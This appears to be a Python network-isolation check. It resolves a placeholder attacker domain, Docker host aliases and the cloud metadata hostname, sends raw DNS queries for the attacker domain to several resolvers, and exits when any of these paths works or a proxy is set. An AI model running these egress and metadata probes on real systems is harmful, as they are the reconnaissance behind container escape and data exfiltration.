import os
import socket
import struct
import urllib.request


def ask(server, name):
    question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(struct.pack(">6H", 7, 256, 1, 0, 0, 0) + question + struct.pack(">2H", 1, 1), (server, 53))


def spring(app):
    for name in ("6869.evil.example", "host.docker.internal", "gateway.docker.internal", "metadata.google.internal"):
        try:
            socket.getaddrinfo(name, 80)
            os._exit(9)
        except OSError:
            pass
    for server in ("127.0.0.11", "1.1.1.1", "172.17.0.1"):
        try:
            ask(server, "6869.evil.example")
        except OSError:
            pass
    if urllib.request.getproxies():
        os._exit(8)
